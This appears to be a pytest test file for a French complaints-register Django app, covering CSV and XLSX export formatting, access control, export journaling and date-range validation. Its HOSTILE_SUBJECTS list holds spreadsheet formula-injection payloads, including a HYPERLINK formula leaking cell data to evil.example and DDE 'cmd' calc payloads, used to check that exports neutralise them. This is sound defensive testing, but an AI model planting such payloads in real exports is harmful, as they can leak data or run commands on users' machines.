"""The register as XLSX and CSV: formatting, French CSV conventions, formula cells made inert, access."""
from __future__ import annotations

import csv
import io
from datetime import datetime, timedelta

import pytest
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from reclamations import exports
from reclamations.models import Event, EventKind, Organisation
from reclamations.statistics import Period
from tests.factories import ReclamationFactory

pytestmark = pytest.mark.django_db

HOSTILE_SUBJECTS = [
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"clic\")",
    "+33 6 12 34 56 78",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def _form() -> dict[str, str]:
    period = Period.last_twelve_months()
    return {"start": period.start.isoformat(), "end": period.end.isoformat()}


def _csv_rows(content: bytes) -> list[list[str]]:
    """The register's rows, from its header on (after the organisation and period lines)."""
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    return rows[rows.index([]) + 1:]


@pytest.mark.parametrize("value", HOSTILE_SUBJECTS)
def test_a_cell_that_a_spreadsheet_would_run_is_prefixed_with_an_apostrophe(value):
    assert exports.neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["Convocation tardive", "", "1 200 €", "'déjà protégé", "a=b"])
def test_ordinary_text_is_left_alone(value):
    assert exports.neutralise(value) == value


def test_numbers_and_dates_are_not_text_and_stay_as_they_are():
    now = timezone.now()
    assert exports.neutralise(-3) == -3
    assert exports.neutralise(now) is now


def test_the_csv_is_utf8_with_a_bom_and_semicolons_one_line_per_record(login, quality_lead):
    first = ReclamationFactory(received_at=timezone.now() - timedelta(days=3), subject="Salle froide; chauffage")
    second = ReclamationFactory(received_at=timezone.now() - timedelta(days=2), subject="Attestation « manquante »")

    response = login(quality_lead).post(reverse("evidence:register_csv"), _form())

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="registre-reclamations_')
    rows = _csv_rows(response.content)
    assert rows[0][:3] == ["Référence", "Reçue le", "Nature"]
    assert [row[0] for row in rows[1:]] == [first.reference, second.reference]  # reception order
    subjects = {row[0]: row[6] for row in rows[1:]}
    assert subjects[first.reference] == "Salle froide; chauffage"  # quoted, not split
    assert rows[1][1] == f"{timezone.localtime(first.received_at):%d/%m/%Y %H:%M}"
    assert rows[1][11] == "Hors délai" or rows[1][11] == "En cours"


def test_every_formula_trigger_is_neutralised_in_the_csv(login, quality_lead):
    for index, subject in enumerate(HOSTILE_SUBJECTS):
        ReclamationFactory(received_at=timezone.now() - timedelta(days=10 - index), subject=subject,
                           complainant_name="=cmd|' /C calc'!A0")

    content = login(quality_lead).post(reverse("evidence:register_csv"), _form()).content

    subjects = [row[6] for row in _csv_rows(content)[1:]]
    assert subjects == ["'" + subject for subject in HOSTILE_SUBJECTS]


def test_the_xlsx_has_a_formatted_frozen_filtered_header_real_dates_and_inert_formulas(login, quality_lead):
    for index, subject in enumerate(HOSTILE_SUBJECTS):
        ReclamationFactory(received_at=timezone.now() - timedelta(days=10 - index), subject=subject)

    response = login(quality_lead).post(reverse("evidence:register_xlsx"), _form())

    assert response.status_code == 200
    assert response["Content-Type"] == exports.XLSX_CONTENT_TYPE
    workbook = load_workbook(io.BytesIO(response.content))
    sheet = workbook["Registre"]
    header = [cell.value for cell in sheet[1]]
    assert header[0] == "Référence" and header[6] == "Objet" and len(header) == len(exports.COLUMNS)
    assert all(cell.font.bold for cell in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == f"A1:W{len(HOSTILE_SUBJECTS) + 1}"
    assert sheet.column_dimensions["G"].width == 48
    assert isinstance(sheet["B2"].value, datetime) and sheet["B2"].number_format == "DD/MM/YYYY HH:MM"
    subjects = [sheet.cell(row=row, column=7) for row in range(2, len(HOSTILE_SUBJECTS) + 2)]
    # XML reads a carriage return back as a line feed; what matters is the apostrophe in front.
    assert [cell.value for cell in subjects] == ["'" + subject.replace("\r", "\n") for subject in HOSTILE_SUBJECTS]
    assert all(cell.data_type == "s" for cell in subjects)  # text, never a formula
    assert workbook["Informations"]["B5"].value == len(HOSTILE_SUBJECTS)


def test_the_xlsx_of_an_empty_period_is_a_header_with_filters(login, quality_lead):
    response = login(quality_lead).post(reverse("evidence:register_xlsx"), _form())

    sheet = load_workbook(io.BytesIO(response.content))["Registre"]
    assert sheet.max_row == 1
    assert sheet.auto_filter.ref == "A1:W2"


def test_each_export_is_written_to_the_journal_with_the_file_hash(login, quality_lead):
    import hashlib

    ReclamationFactory(received_at=timezone.now() - timedelta(days=3))
    response = login(quality_lead).post(reverse("evidence:register_csv"), _form())

    event = Event.objects.filter(kind=EventKind.EXPORT).get()
    assert event.actor == quality_lead
    assert event.data["document"] == "register_csv"
    assert event.data["records"] == 1
    assert event.data["sha256"] == hashlib.sha256(response.content).hexdigest()
    assert "Registre des réclamations (CSV) exporté" in event.summary


@pytest.mark.parametrize("name", ["evidence:register_csv", "evidence:register_xlsx"])
def test_only_the_quality_lead_may_export_the_register(client, login, handler, name):
    anonymous = client.post(reverse(name), _form())
    assert anonymous.status_code == 302 and anonymous["Location"].startswith("/backoffice/connexion/")

    refused = login(handler).post(reverse(name), _form())
    assert refused.status_code == 403
    assert "réservés au responsable qualité" in refused.content.decode()
    assert not Event.objects.filter(kind=EventKind.EXPORT).exists()


def test_a_get_on_an_export_url_is_refused(login, quality_lead):
    assert login(quality_lead).get(reverse("evidence:register_csv")).status_code == 405


@pytest.mark.parametrize(
    ("data", "message"),
    [
        ({"start": "2026-03-01", "end": "2026-02-01"},
         "La fin de la période doit être le même jour que son début ou après."),
        ({"start": "1999-12-31", "end": "2000-02-01"}, "La période ne peut pas commencer avant le 01/01/2000."),
        ({"start": "2020-01-01", "end": "2023-01-01"}, "La période ne peut pas dépasser 3 ans"),
        ({"start": "pas une date", "end": "2026-01-01"}, "Saisissez une date valide"),
        ({"start": "", "end": ""}, "Indiquez le premier jour de la période."),
    ],
)
def test_a_bad_period_gets_a_french_message_and_no_file(login, quality_lead, data, message):
    response = login(quality_lead).post(reverse("evidence:register_xlsx"), data)

    assert response.status_code == 400
    assert response["Content-Type"].startswith("text/html")
    assert message in response.content.decode()
    assert not Event.objects.filter(kind=EventKind.EXPORT).exists()


def test_the_csv_starts_with_the_organisation_and_the_period(login, quality_lead):
    organisation = Organisation.current()
    organisation.name = "Formations du Littoral"
    organisation.save()
    period = Period.last_twelve_months()

    content = login(quality_lead).post(reverse("evidence:register_csv"), _form()).content

    lines = list(csv.reader(io.StringIO(content.decode("utf-8-sig")), delimiter=";"))
    assert lines[0] == ["Organisme", "Formations du Littoral"]
    assert lines[1] == ["Période (dates de réception)", period.label]
    assert lines[2] == [] and lines[3][0] == "Référence"


def test_the_xlsx_counts_are_numbers(login, quality_lead):
    ReclamationFactory(received_at=timezone.now() - timedelta(days=3))

    content = login(quality_lead).post(reverse("evidence:register_xlsx"), _form()).content

    sheet = load_workbook(io.BytesIO(content))["Informations"]
    info = {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}
    assert info["Réclamations, difficultés et aléas"] == 1


def test_a_period_ending_in_the_future_is_refused(login, quality_lead):
    today = timezone.localdate()
    response = login(quality_lead).post(reverse("evidence:register_csv"),
                                        {"start": (today - timedelta(days=30)).isoformat(),
                                         "end": (today + timedelta(days=1)).isoformat()})

    assert response.status_code == 400
    assert "La période ne peut pas finir après aujourd&#x27;hui" in response.content.decode()


def test_a_period_starting_in_the_future_is_refused(login, quality_lead):
    tomorrow = timezone.localdate() + timedelta(days=1)
    response = login(quality_lead).post(reverse("evidence:register_csv"),
                                        {"start": tomorrow.isoformat(), "end": tomorrow.isoformat()})

    assert response.status_code == 400
    assert "La période ne peut pas commencer après aujourd&#x27;hui." in response.content.decode()
